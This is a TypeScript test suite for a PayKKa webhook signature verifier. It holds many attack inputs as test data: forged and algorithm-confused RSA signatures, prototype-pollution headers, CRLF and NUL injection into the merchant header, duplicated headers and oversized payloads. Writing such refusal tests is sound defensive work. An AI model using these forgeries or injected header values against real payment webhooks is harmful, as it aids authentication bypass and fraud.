// Attacks on the whole webhook, over HTTP and through web requests. Each is refused with a status and `{}`, and the reason
// stands in the log only. What must be taken all the same, so that the refusals mean something, stands beside them.
import {
  type KeyObject,
  constants,
  createHash,
  createHmac,
  createPrivateKey,
  createPublicKey,
  generateKeyPairSync,
  privateEncrypt,
  sign,
  verify
} from "node:crypto"
import { type Server, createServer } from "node:http"
import type { AddressInfo, Socket } from "node:net"
import { assert, describe, it } from "@effect/vitest"
import * as Verifier from "@paykka/signing/Verifier"
import * as Effect from "effect/Effect"
import * as Layer from "effect/Layer"
import * as Node from "../src/node.ts"
import * as WebHandler from "../src/WebHandler.ts"
import * as Webhook from "../src/Webhook.ts"
import {
  type Answer,
  Log,
  type Message,
  adapters,
  bytes,
  consoleErrors,
  head,
  keys,
  merchId,
  merchant,
  node,
  notify,
  opened,
  platform,
  raw,
  record,
  secrets,
  statusOf,
  va,
  vectors,
  verifier,
  web,
  whole,
  withHeaders
} from "./support.ts"

// ---------------------------------------------------------------------------------------------------------
// What a refusal is
// ---------------------------------------------------------------------------------------------------------

const prototypes = [Object.prototype, Array.prototype, String.prototype, Function.prototype]
const untouched = prototypes.map((prototype) => Reflect.ownKeys(prototype).map(String).join())

const assertUnpolluted = (): void => {
  assert.deepStrictEqual(
    prototypes.map((prototype) => Reflect.ownKeys(prototype).map(String).join()),
    untouched
  )
}

/** What a terminal, a log file or a reader of either would take for something else than text. */
const unprintable = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u

/** The text of the signature in a header, however the header is written. */
const signatureOf = ({ headers }: Message): string => {
  const { Authorization: header = "" } = headers
  const text = header.startsWith("{")
    ? header
    : header.replace(/%([0-9A-F]{2})/g, (_, code: string) => String.fromCharCode(parseInt(code, 16)))
  return /"signature":"([A-Za-z0-9+/]+)/.exec(text)?.[1] ?? ""
}

/** The one line that a refusal leaves in the log. */
const assertLogged = (entries: ReadonlyArray<string>, reason: RegExp, sent: Message): void => {
  assert.strictEqual(entries.length, 1)
  const { level, message }: { level: string; message: string } = JSON.parse(entries[0]!)
  assert.strictEqual(level, "WARN")
  assert.match(message, /^PayKKa notification refused: /)
  assert.match(message, reason)
  assert.notMatch(message, unprintable)
  assert.isBelow(message.length, 600)
  for (const secret of [...Object.values(secrets), "request_id", "VA20240501000001"]) {
    assert.notInclude(entries[0], secret)
  }
  for (const piece of signatureOf(sent).match(/.{24}/g) ?? []) assert.notInclude(entries[0], piece)
}

/** All that the sender learns. */
const assertTellsNothing = ({ status, headers, body }: Answer, expected: number): void => {
  assert.strictEqual(status, expected)
  assert.strictEqual(body, "{}")
  const { connection: _, "keep-alive": __, "transfer-encoding": ___, ...rest } = headers
  assert.deepStrictEqual(
    { "content-length": "2", ...rest },
    { "content-length": "2", "content-type": "application/json" }
  )
}

type Recorded = Effect.Success<ReturnType<typeof record>>

/** Sends what must be refused; an honest notification is taken before and after. */
const assertRefused = (webhook: Recorded, message: () => Message, reason: RegExp, status = 401): Effect.Effect<void> =>
  Effect.gen(function* () {
    assert.strictEqual((yield* webhook.send(notify(opened()))).status, 200)
    const [events, unknown, logged] = [webhook.events.length, webhook.unknown.length, webhook.log.entries.length]
    const sent = message()
    assertTellsNothing(yield* webhook.send(sent), status)
    assert.deepStrictEqual([webhook.events.length, webhook.unknown.length], [events, unknown])
    assertLogged(webhook.log.entries.slice(logged), reason, sent)
    assertUnpolluted()
    assert.strictEqual((yield* webhook.send(notify(opened()))).status, 200)
  })

type Attack = readonly [name: string, message: () => Message, reason: RegExp]

/** One test for each attack; behind both adapters where the way of the headers or of the body makes a difference. */
const eachRefused = (
  attacks: ReadonlyArray<Attack>,
  behind: ReadonlyArray<(typeof adapters)[number]> = [web]
): void => {
  for (const adapter of behind) {
    for (const [name, message, reason] of attacks) {
      it.live(`${adapter.name}: ${name}`, () =>
        Effect.flatMap(record(adapter), (webhook) => assertRefused(webhook, message, reason)).pipe(Effect.scoped)
      )
    }
  }
}

// ---------------------------------------------------------------------------------------------------------
// Forging
// ---------------------------------------------------------------------------------------------------------

const body = opened()
const platformKey = createPrivateKey(platform.private_pkcs8_pem)

/** The object of a message's header. */
const authorizationOf = (message: Message): Readonly<Record<string, string>> =>
  JSON.parse(decodeURIComponent(message.headers["Authorization"]!))

const withAuthorization = (message: Message, value: string): Message => withHeaders(message, { Authorization: value })

/** What is signed, from the header's values and the body. */
const canonical = (message: Message, lines: { readonly merchId?: string; readonly path?: string } = {}): Buffer => {
  const { timestamp, nonce } = authorizationOf(message)
  const first = [lines.path ?? message.path, timestamp, nonce, lines.merchId ?? merchId, ""].join("\n")
  return Buffer.concat([Buffer.from(first), message.body])
}

/** A message with another signature over the right bytes. */
const signedBy = (make: (text: Buffer) => Uint8Array | string, options: Parameters<typeof notify>[1] = {}): Message => {
  const message = notify(body, options)
  const signature = make(canonical(message))
  const text = typeof signature === "string" ? signature : Buffer.from(signature).toString("base64")
  return withAuthorization(
    message,
    encodeURIComponent(JSON.stringify({ ...authorizationOf(message), signature: text }))
  )
}

const header = (changes: Readonly<Record<string, unknown>>): Message => notify(body, { header: changes })

/** A message whose header is this text, made of an honest header's text. */
const headerText = (change: (json: string) => string): Message => {
  const message = notify(body)
  return withAuthorization(message, change(JSON.stringify(authorizationOf(message))))
}

const signatureText = (change: (signature: string) => string): Message => {
  const message = notify(body)
  const { signature, ...rest } = authorizationOf(message)
  return withAuthorization(message, encodeURIComponent(JSON.stringify({ ...rest, signature: change(signature!) })))
}

describe("keys", () => {
  const stranger = generateKeyPairSync("rsa", { modulusLength: 2048 }).privateKey

  eachRefused(
    [
      ["a wrong key", () => signedBy((text) => sign("RSA-SHA256", text, stranger)), /does not match/],
      [
        "a wrong key under an id that nobody knows",
        () => signedBy((text) => sign("RSA-SHA256", text, stranger), { header: { key_id: "P-unknown" } }),
        /key_id "P-unknown" is not configured .* none of 1 keys/
      ],
      ["the merchant's own key in the platform's name", () => notify(body, { signer: "merchant" }), /does not match/],
      [
        "the merchant's own key under its own id",
        () => notify(body, { signer: "merchant", header: { key_id: merchant.key_id } }),
        /is not configured/
      ],
      [
        "a key that the header brings along",
        () =>
          signedBy((text) => sign("RSA-SHA256", text, stranger), {
            header: { key: createPublicKey(stranger).export({ format: "pem", type: "spki" }) }
          }),
        /does not match/
      ]
    ],
    adapters
  )

  for (const adapter of adapters) {
    it.live(`${adapter.name}: the merchant's own public key configured as the platform's`, () =>
      Effect.gen(function* () {
        const errors = yield* consoleErrors
        const webhook = yield* record(adapter, {
          keyStore: {
            signingKey: { keyId: merchant.key_id, privateKey: merchant.private_pkcs8_pem },
            platformKeys: [{ publicKey: merchant.public_spki_pem }]
          }
        })
        assertTellsNothing(yield* webhook.send(notify(body, { signer: "merchant" })), 503)
        assert.deepStrictEqual(webhook.events, [])
        assert.match(errors[0]!, /public half of your own signing key; PayKKa's public key is wanted here/)
      }).pipe(Effect.scoped)
    )
  }
})

describe("headers", () => {
  eachRefused(
    [
      ["a stripped Authorization", () => withHeaders(notify(body), { Authorization: undefined }), /header is missing/],
      ["a stripped X-Merch-Id", () => withHeaders(notify(body), { "X-Merch-Id": undefined }), /does not match/],
      ["an added X-Merch-Id", () => withHeaders(notify(body, { merchId: null }), { "X-Merch-Id": "M1" }), /not match/],
      [
        "Authorization twice, joined by a proxy",
        () => headerText((json) => `${encodeURIComponent(json)}, ${encodeURIComponent(json)}`),
        /header is not a JSON object/
      ],
      [
        "Authorization twice, joined by a proxy, not percent-encoded",
        () => headerText((json) => `${json}, ${json}`),
        /header is not a JSON object/
      ],
      [
        "X-Merch-Id twice, joined by a proxy",
        () => withHeaders(notify(body), { "X-Merch-Id": `${merchId}, ${merchId}` }),
        /does not match/
      ],
      ["a header of 9000 characters", () => header({ padding: "x".repeat(8400) }), /must not exceed 8192 characters/],
      [
        "a header that is short as JSON, and long by its escapes",
        () => header({ padding: "付".repeat(900) }),
        /must not exceed 8192 characters/
      ],
      [
        "8000 brackets in the header",
        () => headerText((json) => `${json.slice(0, -1)},"x":${"[".repeat(3600)}${"]".repeat(3600)}}`),
        /header must not be nested deeper than 8 levels/
      ],
      [
        "8000 brackets in the header that nothing closes",
        () => headerText((json) => `${json.slice(0, -1)},"x":${"[".repeat(7200)}`),
        /header is not a JSON object/
      ],
      [
        "fields that only the header's __proto__ has",
        () => headerText((json) => `{"__proto__":${json}}`),
        /sign_type must be a non-empty string/
      ],
      [
        "fields that only the header's constructor has",
        () => headerText((json) => `{"constructor":{"prototype":${json}}}`),
        /sign_type must be a non-empty string/
      ],
      [
        "__proto__ beside the fields, to change what they are compared with",
        () =>
          headerText((json) =>
            json.replace(
              /"sign_type":"[^"]*"/,
              '"sign_type":"none","__proto__":{"sign_type":"SHA256_WITH_RSA","polluted":1}'
            )
          ),
        /sign_type is "none"/
      ],
      [
        "a second timestamp behind the signed one",
        () => headerText((json) => json.replace(/}$/, `,"timestamp":"${Date.now() + 1000}"}`)),
        /does not match/
      ],
      [
        "a second nonce behind the signed one",
        () => headerText((json) => json.replace(/}$/, ',"nonce":"0123456789"}')),
        /not match/
      ],
      [
        "a second sign_type behind the right one",
        () => headerText((json) => json.replace(/}$/, ',"sign_type":"none"}')),
        /only SHA256_WITH_RSA is known/
      ],
      [
        "a second signature behind the right one",
        () => headerText((json) => json.replace(/}$/, ',"signature":""}')),
        /signature must be padded Base64/
      ]
    ],
    adapters
  )

  for (const adapter of adapters) {
    it.live(`${adapter.name}: (names in any case are taken)`, () =>
      Effect.gen(function* () {
        const webhook = yield* record(adapter)
        const { headers, ...message } = notify(body)
        const { Authorization: authorization = "", "X-Merch-Id": number = "" } = headers
        for (const [first, second] of [
          ["AUTHORIZATION", "X-MERCH-ID"],
          ["authorization", "x-merch-id"],
          ["aUTHORIZATION", "x-Merch-ID"]
        ] as const) {
          const answer = yield* webhook.send({ ...message, headers: { [first]: authorization, [second]: number } })
          assert.strictEqual(answer.status, 200)
        }
      }).pipe(Effect.scoped)
    )

    // The header is not signed as text, its values are. All that reads it, reads what was verified.
    it.live(`${adapter.name}: (of a doubled key the last counts, and it is what the handler sees)`, () =>
      Effect.gen(function* () {
        const webhook = yield* record(adapter)
        const message = headerText((json) =>
          json.replace("{", '{"nonce":"decoy-decoy","timestamp":1,"signature":[],"__proto__":{"nonce":"x"},')
        )
        assert.strictEqual((yield* webhook.send(message)).status, 200)
        const { nonce } = authorizationOf(message)
        assert.strictEqual(webhook.events[0]!.verified.authorization.nonce, nonce)
        assert.strictEqual(canonical(message).includes(nonce!), true)
        assertUnpolluted()
      }).pipe(Effect.scoped)
    )
  }

  /** Two headers of one name, which only a socket of one's own sends. */
  const twice = (first: string, second: string, name: string, message: Message): Buffer => {
    const { [name]: _, ...headers } = message.headers
    const top = head(message.path, { ...headers, "Content-Length": message.body.length, Connection: "close" })
    const lines = `${name}: ${first}\r\n${name.toLowerCase()}: ${second}\r\n`
    return Buffer.concat([Buffer.from(top.replace(/\r\n$/, `${lines}\r\n`)), message.body])
  }

  const doubled: ReadonlyArray<readonly [string, () => Buffer]> = [
    [
      "Authorization twice, the genuine one first",
      () => {
        const message = notify(body)
        return twice(message.headers["Authorization"]!, notify({}).headers["Authorization"]!, "Authorization", message)
      }
    ],
    [
      "Authorization twice, the genuine one last",
      () => {
        const message = notify(body)
        return twice(notify({}).headers["Authorization"]!, message.headers["Authorization"]!, "Authorization", message)
      }
    ],
    [
      "Authorization twice, both genuine",
      () => {
        const message = notify(body)
        return twice(message.headers["Authorization"]!, message.headers["Authorization"]!, "Authorization", message)
      }
    ],
    ["X-Merch-Id twice, the genuine one first", () => twice(merchId, "M1", "X-Merch-Id", notify(body))],
    ["X-Merch-Id twice, the genuine one last", () => twice("M1", merchId, "X-Merch-Id", notify(body))],
    ["X-Merch-Id twice, both genuine", () => twice(merchId, merchId, "X-Merch-Id", notify(body))]
  ]
  for (const [name, request] of doubled) {
    it.live(`node: ${name}`, () =>
      Effect.gen(function* () {
        const webhook = yield* record(node)
        const received = yield* raw(webhook.port!, (socket) => socket.write(request()))
        assert.include([400, 401], statusOf(received))
        assert.isTrue(received.endsWith("\r\n\r\n{}"))
        assert.deepStrictEqual(webhook.events, [])
        assert.strictEqual(webhook.log.entries.length, 1)
        assert.match(webhook.log.text, /does not match|not a JSON object|came more than once/)
      }).pipe(Effect.scoped)
    )

    it.live(`web: ${name}`, () =>
      Effect.gen(function* () {
        const webhook = yield* record(web)
        const [top = ""] = request().toString("latin1").split("\r\n\r\n")
        const headers = new Headers()
        for (const line of top.split("\r\n").slice(2)) {
          const [key = "", value = ""] = line.split(": ")
          if (/^(authorization|x-merch-id)$/i.test(key)) headers.append(key, value)
        }
        const message = { ...notify(body), headers: Object.fromEntries(headers) }
        assertTellsNothing(yield* webhook.send(message), 401)
        assert.deepStrictEqual(webhook.events, [])
      }).pipe(Effect.scoped)
    )
  }

  it.live("node: a header of 20 000 characters does not get past Node's own limit", () =>
    Effect.gen(function* () {
      const webhook = yield* record(node)
      const message = header({ padding: "x".repeat(20_000) })
      const received = yield* raw(webhook.port!, (socket) => socket.write(whole(message)))
      assert.strictEqual(statusOf(received), 431)
      assert.deepStrictEqual([webhook.events, webhook.log.entries], [[], []])
      assert.strictEqual((yield* webhook.send(notify(body))).status, 200)
    }).pipe(Effect.scoped)
  )

  it.live("web: a header of a million characters costs no more than a look at its length", () =>
    Effect.gen(function* () {
      const webhook = yield* record(web)
      yield* assertRefused(webhook, () => header({ padding: "%".repeat(1_000_000) }), /must not exceed 8192 characters/)
    }).pipe(Effect.scoped)
  )
})

describe("what is signed", () => {
  const pretty = JSON.stringify(body, null, 1)

  eachRefused(
    [
      [
        "the signature of another path",
        () => notify(body, { path: "/hooks/va", signedPath: "/api/v2/merch/va/apply" }),
        /does not match/
      ],
      ["the signature of a longer path", () => notify(body, { signedPath: `${va.path}/` }), /does not match/],
      [
        "the signature of a path in capitals",
        () => notify(body, { signedPath: va.path.toUpperCase() }),
        /does not match/
      ],
      [
        "the signature of the path with its query",
        () => notify(body, { path: "/h?a=1", signedPath: "/h?a=1" }),
        /not match/
      ],
      [
        "the signature of the whole URL",
        () => notify(body, { signedPath: `https://merchant.test${va.path}` }),
        /not match/
      ],
      [
        "the merchant line swapped for another merchant's",
        () => notify(body, { signedMerchId: "M2" }),
        /does not match/
      ],
      [
        "the merchant line swapped with the nonce",
        () => {
          const message = notify(body, { merchId: "0123456789abcdef", nonce: "fedcba9876543210" })
          const swapped = withHeaders(message, { "X-Merch-Id": "fedcba9876543210" })
          const changed = { ...authorizationOf(message), nonce: "0123456789abcdef" }
          return withAuthorization(swapped, encodeURIComponent(JSON.stringify(changed)))
        },
        /does not match/
      ],
      [
        "the merchant line moved into the body",
        () => {
          const message = notify("{}", { merchId: "M1" })
          return { ...withHeaders(message, { "X-Merch-Id": "" }), body: bytes(`M1\n{}`) }
        },
        /does not match/
      ],
      ["a body written anew, with blanks", () => ({ ...notify(body), body: bytes(pretty) }), /does not match/],
      [
        "a body written anew, without blanks",
        () => ({ ...notify(pretty), body: bytes(JSON.stringify(body)) }),
        /does not match/
      ],
      [
        "a body written anew, with its keys in another order",
        () => ({ ...notify(body), body: bytes({ data: body.data, version: body.version, type: body.type }) }),
        /does not match/
      ],
      [
        "a body written anew, with other digits of the same number",
        () => ({ ...notify('{"data":{"amount":1200.50}}'), body: bytes('{"data":{"amount":1200.5}}') }),
        /does not match/
      ],
      [
        "a body written anew, with other escapes of the same text",
        () => ({ ...notify('{"data":{"bank":"é/"}}'), body: bytes(String.raw`{"data":{"bank":"\u00e9\/"}}`) }),
        /does not match/
      ],
      [
        "a body in another encoding",
        () => ({ ...notify(body), body: new Uint8Array(Buffer.from(JSON.stringify(body), "utf16le")) }),
        /does not match/
      ],
      [
        "a byte order mark before the body",
        () => ({ ...notify(body), body: bytes(`\uFEFF${JSON.stringify(body)}`) }),
        /does not match/
      ],
      [
        "a line feed behind the body",
        () => ({ ...notify(body), body: bytes(`${JSON.stringify(body)}\n`) }),
        /not match/
      ],
      [
        "a NUL behind the body",
        () => ({ ...notify(body), body: bytes(`${JSON.stringify(body)}\0`) }),
        /does not match/
      ],
      [
        "a doubled key in the body",
        () => ({ ...notify(body), body: bytes(JSON.stringify(body).replace("{", '{"type":"MERCH",')) }),
        /does not match/
      ],
      [
        "__proto__ in the body",
        () => ({ ...notify(body), body: bytes(JSON.stringify(body).replace("{", '{"__proto__":{"polluted":1},')) }),
        /does not match/
      ],
      [
        "100 000 brackets in place of the body",
        () => ({ ...notify(body), body: bytes("[".repeat(100_000)) }),
        /does not match/
      ]
    ],
    adapters
  )
})

describe("the merchant header", () => {
  const lines = '{"data":\n{"account_no":"1"}}'
  const [first = "", second = ""] = lines.split("\n")

  /** The same signed bytes, cut into header and body at the line feed that stands in the body. */
  const shifted = (separator: string): { readonly message: Message; readonly honest: Message } => {
    const honest = notify(lines)
    const injected = `${merchId}${separator}${first}`
    return { honest, message: { ...withHeaders(honest, { "X-Merch-Id": injected }), body: bytes(second) } }
  }

  it.live("a line feed in it, which would move a part of the body into the merchant number", () =>
    Effect.gen(function* () {
      const { honest, message } = shifted("\n")
      // Both are the same bytes: the signature itself is right.
      const injected = canonical(message, { merchId: message.headers["X-Merch-Id"]! })
      assert.isTrue(injected.equals(canonical(honest)))
      const { signature = "" } = authorizationOf(honest)
      assert.isTrue(verify("RSA-SHA256", injected, platform.public_spki_pem, Buffer.from(signature, "base64")))

      const log = new Log()
      const webhook = yield* Webhook.make({
        notifications: [va],
        handlers: { "va.notification": () => Effect.die(new Error("not to be called")) },
        onUnknown: () => Effect.die(new Error("not to be called"))
      }).pipe(Effect.provide(verifier()))
      for (const separator of ["\n", "\r", "\r\n", "\n\n"]) {
        const sent = shifted(separator).message
        const answer = yield* webhook
          .receive({
            path: sent.path,
            authorization: sent.headers["Authorization"],
            merchId: sent.headers["X-Merch-Id"],
            body: sent.body
          })
          .pipe(Effect.provide(log.layer))
        assert.deepStrictEqual([answer.status, answer.body], [401, "{}"])
        assertLogged(log.entries.splice(0), /merchId must not contain CR or LF/, sent)
      }
    })
  )

  it("(web: no header can hold CR, LF, NUL or what is not Latin-1; those around it fall off)", () => {
    for (const value of ["M1\n{", "M1\r{", "M1\r\n{", "M1\0{", "M1\u2028{", "M1\u2029{"]) {
      assert.throws(() => new Headers({ "X-Merch-Id": value }), TypeError)
    }
    assert.strictEqual(new Headers({ "X-Merch-Id": "\r\nM1\n" }).get("x-merch-id"), "M1")
  })

  // What HTTP lets pass: Latin-1, so NEL and the bytes of U+2028 in UTF-8, which are three characters.
  const others: ReadonlyArray<readonly [string, string]> = [
    ["NEL (U+0085)", "\u0085"],
    ["the UTF-8 of U+2028", "\u00e2\u0080\u00a8"],
    ["the UTF-8 of NEL", "\u00c2\u0085"],
    ["a no-break space", "\u00a0"],
    ["a tab", "\t"],
    ["an escaped line feed", "%0A"],
    ["a line feed as JSON writes it", "\\n"],
    ["a folded line, as a proxy unfolds it", " "]
  ]
  for (const [name, separator] of others) {
    it.live(`web: ${name} in it, in place of the line feed`, () =>
      Effect.gen(function* () {
        yield* assertRefused(yield* record(web), () => shifted(separator).message, /does not match/)
      }).pipe(Effect.scoped)
    )
  }

  const overTheWire: ReadonlyArray<readonly [string, string]> = [
    ...others,
    ["LF", "\n"],
    ["CR", "\r"],
    ["CR LF", "\r\n"],
    ["CR LF and a blank, a folded line", "\r\n "],
    ["CR LF and a header more", "\r\nX-Injected: "],
    ["NUL", "\0"],
    ["VT", "\u000b"],
    ["FF", "\u000c"],
    ["U+001E", "\u001e"]
  ]
  for (const [name, separator] of overTheWire) {
    it.live(`node: ${name} in it, in place of the line feed`, () =>
      Effect.gen(function* () {
        const webhook = yield* record(node)
        const { message } = shifted(separator)
        const { headers, path, body: sent } = message
        const top = head(path, { ...headers, "Content-Length": sent.length, Connection: "close" })
        const received = yield* raw(webhook.port!, (socket) =>
          socket.write(Buffer.concat([Buffer.from(top, "latin1"), sent]))
        )
        // Node's parser refuses some by itself, and then nothing reaches the webhook.
        if (webhook.log.entries.length === 0) assert.strictEqual(statusOf(received), 400)
        else {
          assert.strictEqual(statusOf(received), 401)
          assert.isTrue(received.endsWith("\r\n\r\n{}"))
          assertLogged(webhook.log.entries, /does not match/, message)
        }
        assert.deepStrictEqual([webhook.events, webhook.unknown], [[], []])
        assert.strictEqual((yield* webhook.send(notify(body))).status, 200)
      }).pipe(Effect.scoped)
    )
  }
})

describe("timestamps", () => {
  // Each is signed by the platform's own key, as it stands in the header.
  const signed = (timestamp: string): Message => notify(body, { timestamp })
  const now = (): string => String(Date.now())
  const fullWidth = (digits: string): string =>
    digits.replace(/[0-9]/g, (digit) => String.fromCharCode(0xff10 + Number(digit)))
  const arabic = (digits: string): string =>
    digits.replace(/[0-9]/g, (digit) => String.fromCharCode(0x0660 + Number(digit)))

  const malformed = /timestamp must be milliseconds since the epoch, in digits only/

  eachRefused([
    ["a JSON number", () => notify(body, { header: { timestamp: Date.now() } }), /JSON string, not a number/],
    ["true", () => header({ timestamp: true }), /JSON string, not a number/],
    ["null", () => header({ timestamp: null }), /JSON string, not a number/],
    ["a list of one", () => header({ timestamp: [now()] }), /JSON string, not a number/],
    ["seconds", () => signed(now().slice(0, -3)), /s old, 300 s are allowed/],
    ["microseconds", () => signed(`${now()}000`), /s in the future, 300 s are allowed/],
    ["nanoseconds", () => signed(`${now()}000000`), malformed],
    ["six minutes ago", () => signed(String(Date.now() - 360_000)), /3[56][0-9] s old, 300 s are allowed/],
    ["six minutes ahead", () => signed(String(Date.now() + 360_000)), /3[56][0-9] s in the future, 300 s are allowed/],
    ["the largest that there is room for", () => signed("9999999999999999"), /s in the future/],
    ["zero", () => signed("0"), /s old/],
    ["empty", () => signed(""), malformed],
    ["a plus sign", () => signed(`+${now()}`), malformed],
    ["a minus sign", () => signed(`-${now()}`), malformed],
    ["an exponent", () => signed(`${now()}e0`), malformed],
    ["an exponent that makes it short", () => signed("1.7e12"), malformed],
    ["a fraction", () => signed(`${now()}.0`), malformed],
    ["a blank before", () => signed(` ${now()}`), malformed],
    ["a blank behind", () => signed(`${now()} `), malformed],
    ["a line feed behind", () => signed(`${now()}\n`), malformed],
    ["a no-break space behind", () => signed(`${now()}\u00a0`), malformed],
    ["NUL behind", () => signed(`${now()}\0`), malformed],
    ["hexadecimal", () => signed(`0x${Date.now().toString(16)}`), malformed],
    ["separators", () => signed(now().replace(/(?=(?:[0-9]{3})+$)/g, "_")), malformed],
    ["full-width digits", () => signed(fullWidth(now())), malformed],
    ["Arabic-Indic digits", () => signed(arabic(now())), malformed],
    ["a date", () => signed(new Date().toISOString()), malformed],
    ["Infinity", () => signed("Infinity"), malformed],
    ["NaN, which no comparison refuses", () => signed("NaN"), malformed],
    [
      "the same time with a zero before it",
      () => headerText((json) => json.replace('"timestamp":"', '"timestamp":"0')),
      /does not match/
    ]
  ])
})

describe("algorithms", () => {
  const padding = { padding: constants.RSA_PKCS1_PADDING }
  const sha256 = (text: Buffer): Buffer => createHash("sha256").update(text).digest()
  const elliptic = generateKeyPairSync("ec", { namedCurve: "P-256" }).privateKey
  const edwards = generateKeyPairSync("ed25519").privateKey
  const hmac = (text: Buffer): Buffer => createHmac("sha256", platform.public_spki_pem).update(text).digest()
  const pss = (text: Buffer): Buffer =>
    sign("sha256", text, { key: platformKey, padding: constants.RSA_PKCS1_PSS_PADDING, saltLength: 32 })

  // The signature is right under each of these names: nothing but the name is wrong.
  const names = [
    "RSA",
    "none",
    "None",
    "HS256",
    "RS256",
    "PS256",
    "SHA256withRSA",
    "SHA256_WITH_RSA_PSS",
    "SHA1_WITH_RSA",
    "SHA512_WITH_RSA",
    "sha256_with_rsa",
    " SHA256_WITH_RSA",
    "SHA256_WITH_RSA\u0000",
    "SHA256_WITH_RSA\u200b",
    "ＳＨＡ256_WITH_RSA",
    "__proto__",
    "toString"
  ]
  eachRefused([
    ...names.map((name): Attack => [
      `sign_type ${JSON.stringify(name).replace("\u200b", String.raw`\u200b`)}`,
      () => header({ sign_type: name }),
      /^PayKKa notification refused: sign_type is ".*", only SHA256_WITH_RSA is known$/
    ]),
    ["sign_type none without a signature", () => header({ sign_type: "none", signature: "" }), /signature must be/],
    ["sign_type as a list", () => header({ sign_type: ["SHA256_WITH_RSA"] }), /sign_type must be a non-empty string/],
    ["RSA-PSS by the platform's key, under the right name", () => signedBy(pss), /does not match/],
    [
      "RSA-PSS by the platform's key, under its own name",
      () => ({
        ...withAuthorization(
          notify(body),
          encodeURIComponent(
            JSON.stringify({
              ...authorizationOf(signedBy(pss)),
              sign_type: "SHA256_WITH_RSA_PSS"
            })
          )
        )
      }),
      /only SHA256_WITH_RSA is known/
    ],
    ["SHA-1 by the platform's key", () => signedBy((text) => sign("RSA-SHA1", text, platformKey)), /does not match/],
    ["SHA-512 by the platform's key", () => signedBy((text) => sign("RSA-SHA512", text, platformKey)), /not match/],
    ["MD5 by the platform's key", () => signedBy((text) => sign("RSA-MD5", text, platformKey)), /does not match/],
    [
      "a digest without the name of its algorithm, by the platform's key",
      () => signedBy((text) => privateEncrypt({ key: platformKey, ...padding }, sha256(text))),
      /does not match/
    ],
    ["HMAC with the platform's public key as the secret", () => signedBy(hmac), /does not match/],
    [
      "HMAC with the platform's public key as the secret, as long as a signature",
      () => signedBy((text) => Buffer.concat([Buffer.alloc(224), hmac(text)])),
      /does not match/
    ],
    ["ECDSA", () => signedBy((text) => sign("sha256", text, elliptic)), /does not match/],
    ["Ed25519", () => signedBy((text) => sign(null, text, edwards)), /does not match/]
  ])
})

// ---------------------------------------------------------------------------------------------------------
// RSA by hand
// ---------------------------------------------------------------------------------------------------------

const toNumber = (octets: Uint8Array): bigint => BigInt(`0x0${Buffer.from(octets).toString("hex")}`)
const toOctets = (value: bigint, length: number): Buffer =>
  Buffer.from(value.toString(16).padStart(length * 2, "0"), "hex")

const modulusOf = (key: KeyObject): bigint => toNumber(Buffer.from(key.export({ format: "jwk" }).n!, "base64url"))

/** DigestInfo of SHA-256 up to the digest (RFC 8017, 9.2, note 1). */
const digestInfo = Buffer.from("3031300d060960864801650304020105000420", "hex")

describe("signatures", () => {
  const modulus = modulusOf(createPublicKey(platform.public_spki_pem))
  const digest = (text: Buffer): Buffer => createHash("sha256").update(text).digest()

  /** What only the owner of the key can make: its signature over just these octets, in whatever form. */
  const encrypted = (block: Buffer): Buffer =>
    privateEncrypt({ key: platformKey, padding: constants.RSA_NO_PADDING }, block)

  /** Fills a block of 256 bytes between its first and its last bytes. */
  const block = (start: ReadonlyArray<number>, fill: number, ...end: ReadonlyArray<Uint8Array>): Buffer => {
    const last = Buffer.concat(end)
    return Buffer.concat([Buffer.from(start), Buffer.alloc(256 - start.length - last.length, fill), last])
  }
  const zero = Uint8Array.of(0)

  /** Signs one message after the other until its signature is of the wanted kind. */
  const search = (
    wanted: (signature: Buffer) => boolean
  ): { readonly message: Message; readonly signature: Buffer } => {
    for (let tries = 0; tries < 20_000; tries++) {
      const message = notify(body)
      const signature = Buffer.from(authorizationOf(message)["signature"]!, "base64")
      if (wanted(signature)) return { message, signature }
    }
    throw new Error("no such signature in 20 000")
  }
  const resigned = (message: Message, signature: Uint8Array): Message =>
    withAuthorization(
      message,
      encodeURIComponent(
        JSON.stringify({ ...authorizationOf(message), signature: Buffer.from(signature).toString("base64") })
      )
    )

  it("(the block that is signed is the one that RFC 8017 writes)", () => {
    const message = notify(body)
    const own = encrypted(block([0, 1], 0xff, zero, digestInfo, digest(canonical(message))))
    assert.strictEqual(own.toString("base64"), authorizationOf(message)["signature"])
  })

  const malformed = /signature must be padded Base64 of the standard alphabet/

  eachRefused([
    ["an empty signature", () => header({ signature: "" }), malformed],
    ["no signature", () => header({ signature: undefined }), malformed],
    ["null for a signature", () => header({ signature: null }), malformed],
    ["a list for a signature", () => header({ signature: [1, 2, 3] }), malformed],
    ["blanks for a signature", () => header({ signature: "    " }), malformed],
    ["padding only", () => header({ signature: "====" }), malformed],
    ["Base64 without its padding", () => signatureText((text) => text.replace(/=+$/, "")), malformed],
    ["Base64 with half its padding", () => signatureText((text) => text.replace(/=$/, "")), malformed],
    ["Base64 with more padding", () => signatureText((text) => `${text}=`), malformed],
    ["Base64 with a block of padding more", () => signatureText((text) => `${text}====`), malformed],
    ["Base64 with padding in front", () => signatureText((text) => `==${text.replace(/=+$/, "")}`), malformed],
    ["Base64 with escaped padding", () => signatureText((text) => text.replace("==", "%3D%3D")), malformed],
    [
      "the URL-safe alphabet",
      () => {
        const { message, signature } = search((octets) => /[+/]/.test(octets.toString("base64")))
        const text = signature.toString("base64").replaceAll("+", "-").replaceAll("/", "_")
        return withAuthorization(
          message,
          encodeURIComponent(JSON.stringify({ ...authorizationOf(message), signature: text }))
        )
      },
      malformed
    ],
    [
      "the URL-safe alphabet without padding",
      () => signatureText((t) => Buffer.from(t, "base64").toString("base64url")),
      malformed
    ],
    ["Base64 in lines", () => signatureText((text) => text.replace(/.{76}/g, "$&\r\n")), malformed],
    ["Base64 with a blank behind", () => signatureText((text) => `${text} `), malformed],
    [
      "Base64 with unused bits set",
      () =>
        signatureText((text) => `${text.slice(0, -3)}${String.fromCharCode(text.charCodeAt(text.length - 3) + 1)}==`),
      malformed
    ],
    ["hexadecimal", () => signatureText((text) => Buffer.from(text, "base64").toString("hex")), /does not match/],
    ["Base64 of Base64", () => signatureText((text) => Buffer.from(text).toString("base64")), /does not match/],

    ["a signature of zeros", () => signedBy(() => new Uint8Array(256)), /does not match/],
    ["a signature of one", () => signedBy(() => toOctets(1n, 256)), /does not match/],
    ["a signature of the modulus less one", () => signedBy(() => toOctets(modulus - 1n, 256)), /does not match/],
    ["a signature of the modulus", () => signedBy(() => toOctets(modulus, 256)), /does not match/],
